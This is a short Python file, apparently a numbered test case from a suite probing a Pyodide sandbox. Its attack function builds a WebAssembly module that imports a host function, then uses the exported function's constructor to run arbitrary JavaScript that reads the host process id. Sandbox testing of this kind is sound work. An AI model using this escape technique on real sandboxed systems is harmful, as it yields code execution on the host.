"""A WebAssembly module of its own that is given a function of the host.

id: S44
canary: pid
"""

import js
from pyodide.ffi import to_js

# (module (import "m" "f" (func (result externref))) (export "f" (func 0)))
BYTES = bytes.fromhex("0061736d010000000105016000016f020701016d0166000007050101660000")


def attack(target):
    imports = to_js({"m": {"f": js.process.cwd}}, dict_converter=js.Object.fromEntries)
    instance = js.WebAssembly.Instance.new(js.WebAssembly.Module.new(to_js(BYTES)), imports)
    make = instance.exports.f.constructor
    return make("return `pid ${process.pid}`")()
